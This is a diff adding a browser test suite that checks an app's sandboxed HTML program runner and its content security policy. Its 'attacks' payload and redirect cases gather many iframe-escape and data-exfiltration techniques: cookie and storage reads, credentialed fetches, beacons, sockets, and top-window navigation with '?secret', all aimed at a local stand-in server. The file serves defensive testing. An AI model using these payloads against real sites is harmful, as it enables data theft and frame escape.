@@ -1,0 +1,210 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { chat, eventually } from "../support/chat.ts";
+import { launchChromium } from "../support/chromium.ts";
+import { startEnvironment } from "../support/environment.ts";
+import { visit } from "../support/visit.ts";
+
+const environment = startEnvironment();
+
+/** A server that no program may reach, and the requests that it got. */
+const elsewhere = { url: "", requests: [] as string[] };
+let server: Server;
+
+beforeAll(async () => {
+  server = createServer((request, response) => {
+    elsewhere.requests.push(`${request.method} ${request.url}`);
+    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end();
+  });
+  server.on("upgrade", (request, socket) => {
+    elsewhere.requests.push(`upgrade ${request.url}`);
+    socket.destroy();
+  });
+  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
+  elsewhere.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+afterAll(() => server.close());
+
+const panelOf = (page: Page) => page.getByRole("region", { name: "Panel" });
+
+/** Opens a program in the panel and runs it. */
+async function run(page: Page, html: string) {
+  const { ask, answers, settled } = chat(page);
+  await ask(`\`\`\`html\n${html}\n\`\`\`\n\necho`);
+  await answers.last().getByRole("button", { name: "Open" }).waitFor();
+  await settled();
+  await answers.last().getByRole("button", { name: "Open" }).click();
+  const panel = panelOf(page);
+  expect(await panel.locator("iframe").count()).toBe(0);
+  await panel.getByRole("button", { name: "Run" }).click();
+  return { panel, frame: panel.frameLocator("iframe") };
+}
+
+/** Everything that a page can do to load something, to leave its frame, or to find something that is not its own. */
+const attacks = (url: string) => `<!doctype html><title>Attack</title>
+<link rel="stylesheet" href="${url}/style"><link rel="prefetch" href="${url}/prefetch"><link rel="preload" as="script" href="${url}/preload">
+<link rel="modulepreload" href="${url}/modulepreload"><link rel="icon" href="${url}/icon"><link rel="manifest" href="${url}/manifest">
+<base href="${url}/"><script src="relative.js"></script><script src="${url}/script.js"></script><script type="module">import "${url}/module.js"</script>
+<style>@import url(${url}/import); @font-face { font-family: x; src: url(${url}/font) } body { background: url(${url}/background); font-family: x }</style>
+<img src="${url}/image" srcset="${url}/set 2x"><svg><image href="${url}/svg"/><use href="${url}/use#a"/></svg><video src="${url}/video" poster="${url}/poster"></video>
+<iframe src="${url}/frame"></iframe><object data="${url}/object"></object><embed src="${url}/embed">
+<iframe srcdoc="<script>fetch('${url}/nested'); new Image().src = '${url}/nested-image'; try { top.location = '${url}/nested-top' } catch {}</script>"></iframe>
+<form action="${url}/form" target="_top"><input name="a"></form><a id="blank" target="_blank" href="${url}/blank" ping="${url}/ping">a</a><a id="top" target="_top" href="${url}/top-link">b</a>
+<script>
+const found = {};
+const attempt = (name, act) => { try { found[name] = String(act()) } catch (error) { found[name] = error.name } };
+attempt("origin", () => origin);
+attempt("parent document", () => parent.document.title);
+attempt("parent storage", () => parent.localStorage.length);
+attempt("frame element", () => frameElement);
+attempt("cookies", () => document.cookie);
+attempt("local storage", () => localStorage.length);
+attempt("session storage", () => sessionStorage.length);
+attempt("databases", () => indexedDB.open("a"));
+attempt("window", () => open("${url}/open"));
+attempt("top", () => { top.location = "${url}/top" });
+attempt("parent address", () => { parent.location.hash = "moved" });
+attempt("dialog", () => confirm("Allow?"));
+attempt("form", () => { document.forms[0].submit(); document.forms[0].requestSubmit() });
+attempt("links", () => { document.getElementById("blank").click(); document.getElementById("top").click() });
+attempt("beacon", () => navigator.sendBeacon("${url}/beacon", "a"));
+attempt("socket", () => { new WebSocket("${url.replace("http", "ws")}/socket") });
+attempt("events", () => { new EventSource("${url}/events") });
+attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker')"]))) });
+attempt("service worker", () => navigator.serviceWorker.register("/program-frame.js"));
+attempt("peer", () => new RTCPeerConnection());
+attempt("request", () => { const request = new XMLHttpRequest(); request.open("GET", "${url}/request", false); request.send() });
+const asked = ["${url}/fetch", location.origin + "/v1/threads", "/v1/threads"].map((address) => fetch(address, { credentials: "include" }).then(() => "answered", () => "refused"));
+const imported = import("${url}/import.js").then(() => "imported", () => "refused");
+Promise.all([...asked, imported]).then((answers) => console.log("found " + JSON.stringify({ ...found, answers })));
+</script>`;
+
+test("runs a program without a network, and without a way to the page, its data or another window", async () => {
+  const ada = await visit(environment.browser, environment.server.url);
+  const { page } = ada;
+  const { panel } = await run(page, attacks(elsewhere.url));
+  const address = page.url();
+  await panel.getByRole("button", { name: /^Console/ }).waitFor();
+  const printed = panel.getByText(/^found /);
+  await printed.waitFor();
+  const found = JSON.parse((await printed.innerText()).slice("found ".length)) as Record<string, unknown>;
+  expect(found).toMatchObject({
+    origin: "null",
+    "parent document": "SecurityError",
+    "parent storage": "SecurityError",
+    "frame element": "null",
+    cookies: "SecurityError",
+    "local storage": "SecurityError",
+    "session storage": "SecurityError",
+    window: "null",
+    top: "SecurityError",
+    "parent address": "SecurityError",
+    dialog: "false",
+    peer: "ReferenceError",
+    answers: ["refused", "refused", "refused", "refused"],
+  });
+  // Whatever is still on its way.
+  await new Promise((resolve) => setTimeout(resolve, 1_000));
+  expect(elsewhere.requests).toEqual([]);
+  expect(page.url()).toBe(address);
+  expect(ada.context.pages()).toHaveLength(1);
+  expect(await page.evaluate("[origin, document.title].join()")).not.toContain("Attack");
+  await ada.context.close();
+});
+
+test.each([
+  ["another server", () => `<script>location = "${elsewhere.url}/?secret"</script>`],
+  ["another server by a tag", () => `<meta http-equiv="refresh" content="0; url=${elsewhere.url}/?secret">`],
+  ["the app", () => `<script>location = "${environment.server.url}/"</script>`],
+  ["a script address", () => `<script>location = "data:text/html,<script>top.x=1<\\/script>"</script>`],
+])("stops a program that goes to %s", async (_, attack) => {
+  const ada = await visit(environment.browser, environment.server.url);
+  const { panel } = await run(ada.page, `<!doctype html><title>Away</title>${attack()}`);
+  await panel
+    .getByRole("alert")
+    .getByText(/was stopped/)
+    .waitFor();
+  expect(await panel.locator("iframe").count()).toBe(0);
+  expect(elsewhere.requests).toEqual([]);
+  await ada.context.close();
+});
+
+test("stops a loop without an end while the page answers keys", async () => {
+  // As in Chromium with a window: the headless shell runs all frames in one process by default.
+  const browser = await launchChromium(["--site-per-process"]);
+  const ada = await visit(browser, environment.server.url);
+  const { page } = ada;
+  const { composer } = chat(page);
+  const { panel } = await run(page, "<!doctype html><title>Loop</title><script>for (;;) {}</script>");
+  const slowest = await composer.evaluate(async (field) => {
+    let longest = 0;
+    for (let i = 0; i < 20; i++) {
+      const startedAt = performance.now();
+      field.focus();
+      document.execCommand("insertText", false, "a");
+      await new Promise((painted) => requestAnimationFrame(() => setTimeout(painted)));
+      longest = Math.max(longest, performance.now() - startedAt);
+      await new Promise((later) => setTimeout(later, 50));
+    }
+    return longest;
+  });
+  expect(slowest).toBeLessThan(100);
+  await panel.getByRole("alert").getByText("did not respond").waitFor();
+  await panel.getByRole("button", { name: "Fix this" }).click();
+  expect(await composer.inputValue()).toContain("did not respond");
+  await ada.end();
+  await browser.close();
+});
+
+test.each([1280, 390])(
+  "shows a page, what it prints and its errors, and asks for a fix at %i px",
+  async (width) => {
+    const ada = await visit(environment.browser, environment.server.url, { width });
+    const { page } = ada;
+    const { composer } = chat(page);
+    const html = `<!doctype html>
+<title>Counter</title>
+<button onclick="this.textContent = ++count">0</button>
+<script>
+  let count = 0;
+  console.log("Started", { at: [1] }, "<b>not bold</b>");
+  setTimeout(() => missing(), 100);
+</script>`;
+    const { panel, frame } = await run(page, html);
+    await frame.getByRole("button", { name: "0" }).click();
+    await frame.getByRole("button", { name: "1" }).waitFor();
+    await panel.getByText("1 error").waitFor();
+    await panel.getByText('Started {"at":[1]} <b>not bold</b>').waitFor();
+    await panel.getByText("missing is not defined (line 4 of its script)").waitFor();
+    await panel.getByRole("button", { name: "Fix this" }).click();
+    await eventually(
+      async () => await composer.inputValue(),
+      (text) =>
+        expect(text).toMatch(/^> Counter \(HTML\)\n\n.*Fix this error:\n\n```\n.*missing is not defined/),
+    );
+    await eventually(
+      async () => await composer.evaluate((field) => field === document.activeElement),
+      (isFocused) => expect(isFocused).toBe(true),
+    );
+    await ada.context.close();
+  },
+);
+
+test("serves the frame with a policy of its own, and no other page of the app can be framed", async () => {
+  const frame = await fetch(`${environment.server.url}/program`);
+  const policy = frame.headers.get("content-security-policy") ?? "";
+  for (const rule of [
+    "sandbox allow-scripts",
+    "default-src 'none'",
+    "connect-src 'none'",
+    "frame-ancestors 'self'",
+  ])
+    expect(policy.split("; ")).toContain(rule);
+  expect(policy).not.toMatch(/allow-same-origin|https?:|\*/);
+  for (const path of ["/", "/t/thread_a", "/docs", "/program-frame.js", "/s/unknown"]) {
+    const page = await fetch(`${environment.server.url}${path}`, { headers: { Accept: "text/html" } });
+    expect(page.headers.get("content-security-policy"), path).toContain("frame-ancestors 'none'");
+  }
+});
